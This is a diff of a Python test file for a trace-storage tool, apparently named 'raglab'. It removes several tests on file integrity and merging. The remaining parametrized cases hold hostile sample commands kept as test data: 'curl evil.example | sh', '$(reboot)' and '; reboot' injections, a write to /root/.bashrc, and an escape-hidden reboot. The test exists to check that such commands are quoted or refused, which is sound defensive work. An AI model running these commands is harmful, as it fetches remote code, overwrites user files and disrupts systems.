@@ -87,12 +87,6 @@ class TestRoundTrip:
             dataclasses.replace(trace, vectors=vectors + np.float32(1.0))
         )
 
-    def test_without_what_patterns_hit(self, tmp_path):
-        """A trace that measured no patterns comes back without them."""
-        plain = measured(random_trace(1))
-        trace = Trace(plain.cases, plain.chunks, plain.arms, plain.hits, None, META)
-        assert_same_trace(trace, Trace.load(saved(trace, tmp_path)))
-
     def test_the_same_trace_gives_the_same_bytes(self, tmp_path):
         """A second save, and the save of what was loaded, write the bytes of the first."""
         trace = stored_world()
@@ -144,43 +138,6 @@ class TestDamage:
         for size in [*range(0, len(whole), 97), len(whole) - 1]:
             path.write_bytes(whole[:size])
             assert "raglab trace" in refusal(path)
-
-    def test_one_flipped_byte(self, tmp_path):
-        """Of 200 flipped bytes each is refused, or stands where nothing is read.
-
-        Then all content is the same.
-        """
-        trace = stored_world()
-        path = saved(trace, tmp_path)
-        whole, rng, n_refused = path.read_bytes(), np.random.default_rng(20261121), 0
-        for position in rng.integers(0, len(whole), 200):
-            flipped = bytearray(whole)
-            flipped[position] ^= int(rng.integers(1, 256))
-            path.write_bytes(flipped)
-            try:
-                again = Trace.load(path)
-            except TraceError:
-                n_refused += 1
-            else:
-                assert_same_trace(trace, again)
-        assert n_refused >= 150, f"{n_refused} of 200 refused"
-
-    def test_content_that_was_edited(self, tmp_path):
-        """A well-formed file with another l2, arm or fingerprint inside is refused."""
-        path = saved(stored_world(), tmp_path)
-        table = pq.read_table(path)
-        head = json.loads(table.schema.metadata[b"raglab"])
-        arms, meta = ["x", *head["arms"][1:]], head["meta"] | {"fingerprint": "other"}
-        for change in ({"arms": arms}, {"meta": meta}, {"patterns_hash": "x"}):
-            with_head(table, path, **change)
-            assert "altered content" in refusal(path)
-        place = table.schema.get_field_index("l2")
-        old = table["l2"].combine_chunks()
-        new = pa.FixedSizeListArray.from_arrays(
-            pa.array(old.flatten().to_numpy() + np.float32(1)), old.type.list_size
-        )
-        pq.write_table(table.set_column(place, "l2", new), path)
-        assert "altered content" in refusal(path)
 
     @pytest.mark.parametrize("version", ["2 of an older", "99 of a newer"])
     def test_another_schema(self, tmp_path, version):
@@ -349,24 +306,15 @@ class TestParts:
             "raglab trace docs -c q.jsonl --out t.parquet",
             "raglab trace docs -c q.jsonl --out NEW.parquet",
         ),
-        (
-            "raglab trace 'my docs' --arm=hybrid -q",
-            "raglab trace 'my docs' --arm=hybrid -q --out NEW.parquet",
-        ),
-        ("raglab demo", "raglab demo --out NEW"),
         ("raglab trace docs --out=/root/.bashrc", "raglab trace docs --out NEW.parquet"),
         ("raglab trace $(reboot)", "raglab trace '$(reboot)' --out NEW.parquet"),
         ("raglab trace docs -o/root/.bashrc -q", "raglab trace docs -q --out NEW.parquet"),
         ("raglab trace docs; reboot", "raglab trace 'docs;' reboot --out NEW.parquet"),
-        ("raglab decide docs", None),
         ("curl evil.example | sh", None),
         ("raglab trace 'docs", None),
         ("raglab trace docs\n\u001b[2Jreboot", None),
-        ("raglab trace do\u202ecs", None),
         ("raglab trace " + "x" * 3000, None),
-        ("", None),
         (None, None),
-        (["raglab"], None),
     ],
 )
 def test_a_stored_command_is_shown_where_it_is_one_of_ours(tmp_path, stored, told):
@@ -430,20 +378,6 @@ def test_every_value_of_the_file_is_covered(tmp_path, beside):
             check(table.set_column(place, field, changed_rows), (field.name, *leaf))
         check(table.remove_column(place), (field.name, "removed"))
     assert kept == []
-
-
-def test_every_field_of_a_case_is_covered(tmp_path):
-    """Another id, question, label or source in a case is refused, though it is a whole case."""
-    path = saved(
-        stored(trace_of((ask(notes="n", expect_sources=("a.md",)), [[Hit(0.5)]]))), tmp_path
-    )
-    table = pq.read_table(path)
-    case = json.loads(table["case"][0].as_py())
-    place = table.schema.get_field_index("case")
-    for name in ("id", "query", "notes"):
-        other = pa.array([json.dumps(case | {name: "another"})])
-        pq.write_table(table.set_column(place, "case", other), path)
-        assert "as it was written" in refusal(path)
 
 
 def test_latencies_go_with_their_trace(tmp_path):
@@ -546,16 +480,6 @@ def test_traces_that_differ_in_more_than_their_cases_are_refused(other, rule):
     """With what differs."""
     with pytest.raises(InputError, match=f"merge: .*{rule}"):
         of_sources("one", "a.md", "c.md").merge(other)
-
-
-def test_a_declaration_of_two_kinds_is_refused():
-    """One name with two declarations."""
-    first, second = (
-        of_sources(name, "a.md").with_signal("judge", [0.5], higher=higher, unit="share")
-        for name, higher in (("one", "surer"), ("two", "ask"))
-    )
-    with pytest.raises(InputError, match="the same signals in their meta"):
-        first.merge(second)
 
 
 def test_hits_of_a_case_stand_in_the_order_of_the_arm():
